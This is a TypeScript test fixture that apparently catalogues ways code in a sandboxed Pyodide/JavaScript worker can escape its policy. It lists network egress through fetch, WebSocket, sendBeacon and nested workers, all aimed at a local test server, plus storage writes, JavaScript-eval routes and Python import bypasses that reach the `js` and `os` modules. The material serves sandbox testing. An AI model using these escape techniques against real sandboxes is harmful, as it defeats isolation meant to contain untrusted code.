/**
 * Every road out of an engine worker that the attacker's test found (issue 16, "What was
 * found"), written twice: as JavaScript that runs on a worker's global scope, and as Python
 * that reaches the same global through Pyodide's `js` module. Each road aims at the
 * attacker's server under a path of its own, or at storage under a name starting with
 * `attack-`, so a failure names the road that escaped.
 *
 * In both bodies `u` is `http://127.0.0.1:<port>/<tag>`, `L` the same on `localhost`, `w` the
 * same on `ws:`, and `tag` says who ran it (such as `py-standard`). The JavaScript body runs
 * in an async function with `later(ms)`. The Python body runs in an `async def` with `J` (the
 * worker global), `settle(promise)` (waits at most a second), `later(ms)`, `promise(executor)`,
 * `array(*items)` and `options(**entries)` (a plain JavaScript object).
 */

/** One road out. */
export interface Road {
  readonly name: string;
  /** Where an escape shows: on the attacker's server, or in storage the page can list. */
  readonly kind: 'network' | 'storage';
  /** The paths, after `/<tag>`, that the road asks the attacker's server for. */
  readonly hits: readonly string[];
  /** The property path from the worker global that the road needs; without it, the road is absent. */
  readonly needs: readonly string[];
  readonly js: string;
  /** Null where Python has no road of its own without evaluating JavaScript (dynamic `import()`). */
  readonly py: string | null;
  /**
   * Whether a bare worker with no policy must escape by this road: false for what a worker
   * global simply does not have in this browser, or a module worker refuses by design.
   */
  readonly bare: boolean;
}

/** The JavaScript of a nested worker that calls home, built from the prefix `u`. */
const NESTED = "'fetch(' + JSON.stringify(u + '/nested-fetch') + '); import(' + JSON.stringify(u + '/nested-import.mjs') + ');'";
const NESTED_PY = '"fetch(" + json.dumps(u + "/nested-fetch") + "); import(" + json.dumps(u + "/nested-import.mjs") + ");"';

export const ROADS: readonly Road[] = [
  { name: 'fetch', kind: 'network', hits: ['/fetch'], needs: ['fetch'], bare: true, js: "await fetch(u + '/fetch');", py: 'await settle(J.fetch(u + "/fetch"))' },
  { name: 'fetch-localhost', kind: 'network', hits: ['/fetch-localhost'], needs: ['fetch'], bare: true, js: "await fetch(L + '/fetch-localhost');", py: 'await settle(J.fetch(L + "/fetch-localhost"))' },
  {
    name: 'xhr',
    kind: 'network',
    hits: ['/xhr'],
    needs: ['XMLHttpRequest'],
    bare: true,
    js: "const x = new XMLHttpRequest(); x.open('GET', u + '/xhr'); x.send(); await later(300);",
    py: 'x = J.XMLHttpRequest.new()\nx.open("GET", u + "/xhr")\nx.send()',
  },
  { name: 'import', kind: 'network', hits: ['/import.mjs'], needs: [], bare: true, js: "await import(u + '/import.mjs');", py: null },
  { name: 'import-localhost', kind: 'network', hits: ['/import-localhost.mjs'], needs: [], bare: true, js: "await import(L + '/import-localhost.mjs');", py: null },
  {
    name: 'font-face',
    kind: 'network',
    hits: ['/font-face.woff'],
    needs: ['FontFace'],
    bare: true,
    js: "await new FontFace('attack-a', 'url(' + u + '/font-face.woff)').load();",
    py: 'await settle(J.FontFace.new("attack-a", "url(" + u + "/font-face.woff)").load())',
  },
  {
    name: 'fonts-load',
    kind: 'network',
    hits: ['/fonts-load.woff'],
    needs: ['fonts', 'load'],
    bare: true,
    js: "self.fonts.add(new FontFace('attack-b', 'url(' + u + '/fonts-load.woff)')); await self.fonts.load('12px attack-b');",
    py: 'J.self.fonts.add(J.FontFace.new("attack-b", "url(" + u + "/fonts-load.woff)"))\nawait settle(J.self.fonts.load("12px attack-b"))',
  },
  {
    name: 'websocket',
    kind: 'network',
    hits: ['/websocket'],
    needs: ['WebSocket'],
    bare: true,
    js: "const s = new WebSocket(w + '/websocket'); await new Promise((done) => { s.onopen = s.onerror = s.onclose = done; });",
    py: 's = J.WebSocket.new(w + "/websocket")\nawait settle(promise(lambda done, fail: s.addEventListener("error", done)))',
  },
  {
    name: 'websocket-stream',
    kind: 'network',
    hits: ['/websocket-stream'],
    needs: ['WebSocketStream'],
    bare: true,
    js: "await new WebSocketStream(w + '/websocket-stream').opened;",
    py: 'await settle(J.WebSocketStream.new(w + "/websocket-stream").opened)',
  },
  {
    name: 'event-source',
    kind: 'network',
    hits: ['/event-source'],
    needs: ['EventSource'],
    bare: true,
    js: "const e = new EventSource(u + '/event-source'); await new Promise((done) => { e.onopen = e.onerror = done; }); e.close();",
    py: 'e = J.EventSource.new(u + "/event-source")\nawait settle(promise(lambda done, fail: e.addEventListener("error", done)))\ne.close()',
  },
  // Module workers refuse importScripts by design; the bare control worker is a classic one.
  { name: 'import-scripts', kind: 'network', hits: ['/import-scripts.js'], needs: ['importScripts'], bare: true, js: "importScripts(u + '/import-scripts.js');", py: 'J.importScripts(u + "/import-scripts.js")' },
  {
    name: 'send-beacon',
    kind: 'network',
    hits: ['/send-beacon'],
    needs: ['navigator', 'sendBeacon'],
    bare: false,
    js: "if (!navigator.sendBeacon(u + '/send-beacon', 'x')) throw new Error('refused');",
    py: 'J.navigator.sendBeacon(u + "/send-beacon", "x")',
  },
  {
    name: 'nested-worker',
    kind: 'network',
    hits: ['/nested-fetch', '/nested-import.mjs'],
    needs: ['Worker'],
    bare: true,
    js: `new Worker(URL.createObjectURL(new Blob([${NESTED}], { type: 'text/javascript' }))); await later(300);`,
    py: `J.Worker.new(J.URL.createObjectURL(J.Blob.new(array(${NESTED_PY}), options(type="text/javascript"))))\nawait settle(later(300))`,
  },
  {
    name: 'shared-worker',
    kind: 'network',
    hits: ['/nested-fetch', '/nested-import.mjs'],
    needs: ['SharedWorker'],
    bare: false,
    js: `new SharedWorker(URL.createObjectURL(new Blob([${NESTED}], { type: 'text/javascript' }))); await later(300);`,
    py: `J.SharedWorker.new(J.URL.createObjectURL(J.Blob.new(array(${NESTED_PY}), options(type="text/javascript"))))\nawait settle(later(300))`,
  },
  {
    name: 'indexeddb',
    kind: 'storage',
    hits: [],
    needs: ['indexedDB'],
    bare: true,
    js: "await new Promise((done, fail) => { const r = indexedDB.open('attack-' + tag); r.onsuccess = () => { r.result.close(); done(); }; r.onerror = () => fail(r.error); });",
    py: 'r = J.indexedDB.open("attack-" + tag)\nawait settle(promise(lambda done, fail: r.addEventListener("success", done)))\nr.result.close()',
  },
  {
    name: 'cache-storage',
    kind: 'storage',
    hits: [],
    needs: ['caches'],
    bare: true,
    js: "const c = await caches.open('attack-' + tag); await c.put(u + '/cached', new Response('x'));",
    py: 'c = await settle(J.caches.open("attack-" + tag))\nawait settle(c.put(u + "/cached", J.Response.new("x")))',
  },
  {
    name: 'opfs',
    kind: 'storage',
    hits: [],
    needs: ['navigator', 'storage', 'getDirectory'],
    bare: true,
    js: "const root = await navigator.storage.getDirectory(); await root.getFileHandle('attack-' + tag, { create: true });",
    py: 'root = await settle(J.navigator.storage.getDirectory())\nawait settle(root.getFileHandle("attack-" + tag, options(create=True)))',
  },
  {
    name: 'storage-buckets',
    kind: 'storage',
    hits: [],
    needs: ['navigator', 'storageBuckets'],
    bare: true,
    js: "const b = await navigator.storageBuckets.open('attack-' + tag); await (await b.caches.open('attack-' + tag)).put(u + '/cached', new Response('x')); b.indexedDB.open('attack-' + tag);",
    py: 'b = await settle(J.navigator.storageBuckets.open("attack-" + tag))\nawait settle((await settle(b.caches.open("attack-" + tag))).put(u + "/cached", J.Response.new("x")))\nb.indexedDB.open("attack-" + tag)',
  },
  {
    name: 'webkit-file-system',
    kind: 'storage',
    hits: [],
    needs: ['webkitRequestFileSystem'],
    bare: true,
    js: "await new Promise((done, fail) => webkitRequestFileSystem(0, 1024, (fs) => fs.root.getFile('attack-' + tag, { create: true }, done, fail), fail));",
    py: 'fs = await settle(promise(lambda done, fail: J.webkitRequestFileSystem(0, 1024, done, fail)))\nawait settle(promise(lambda done, fail: fs.root.getFile("attack-" + tag, options(create=True), done, fail)))',
  },
  {
    name: 'broadcast-channel',
    kind: 'storage',
    hits: [],
    needs: ['BroadcastChannel'],
    bare: true,
    js: "const c = new BroadcastChannel('attack'); c.postMessage(tag); await later(100); c.close();",
    py: 'c = J.BroadcastChannel.new("attack")\nc.postMessage(tag)\nawait settle(later(100))\nc.close()',
  },
];

/**
 * Python's own roads out, through Pyodide's modules rather than the worker global: each may
 * use `pyodide` and `pyodide_js` reached by the import bypass.
 */
export const PYODIDE_ROADS: readonly { readonly name: string; readonly py: string }[] = [
  { name: 'pyodide.http.pyfetch', py: 'await __import__("pyodide.http", None, None, []).http.pyfetch(u + "/pyfetch")' },
  { name: 'pyodide.http.open_url', py: '__import__("pyodide.http", None, None, []).http.open_url(u + "/open-url")' },
  { name: 'pyodide_js.loadPackage', py: 'await settle(__import__("pyodide_js", None, None, []).loadPackage(u + "/attack-0.1-py3-none-any.whl"))' },
];

/**
 * Ways to run a string of JavaScript from Python: each gets `src` (which calls home at
 * `/eval-<name>` by fetch and by import()) and gives back a thenable or nothing.
 */
export const EVAL_ROADS: readonly { readonly name: string; readonly py: string }[] = [
  { name: 'js.eval', py: 'J.eval(src)' },
  { name: 'js.Function', py: 'J.Function(src)()' },
  { name: 'constructor.constructor', py: 'J.self.constructor.constructor(src)()' },
  { name: 'pyodide.code.run_js', py: '__import__("pyodide.code", None, None, []).code.run_js(src)' },
  { name: 'setTimeout(string)', py: 'J.setTimeout(src, 0)' },
];

/** Roads from Python to the worker global, as expressions (`import js` is a statement, added apart). */
export const JS_ROADS: readonly { readonly name: string; readonly py: string }[] = [
  { name: 'display.__globals__["js"]', py: 'display.__globals__["js"]' },
  { name: '__import__("js", None, None, [])', py: '__import__("js", None, None, [])' },
  { name: 'print.__self__.__import__("js")', py: 'print.__self__.__import__("js")' },
  { name: 'collections._sys.modules["js"]', py: '__import__("collections")._sys.modules["js"]' },
  { name: 're.enum.sys.modules["js"]', py: '__import__("re").enum.sys.modules["js"]' },
  { name: 'subclasses → sys.modules["js"]', py: 'sys_by_subclasses().modules["js"]' },
];

/** Roads from Python to `os`, for Restrictive's "no file system". */
export const OS_ROADS: readonly { readonly name: string; readonly py: string }[] = [
  { name: '__import__("os", None, None, [])', py: '__import__("os", None, None, [])' },
  { name: 'print.__self__.__import__("os")', py: 'print.__self__.__import__("os")' },
  { name: 'collections._sys.modules["os"]', py: '__import__("collections")._sys.modules["os"]' },
  { name: 're.enum.sys.modules["os"]', py: '__import__("re").enum.sys.modules["os"]' },
  { name: 'display.__globals__["sys"].modules["os"]', py: 'display.__globals__["sys"].modules["os"]' },
  { name: 'subclasses → sys.modules["os"]', py: 'sys_by_subclasses().modules["os"]' },
];
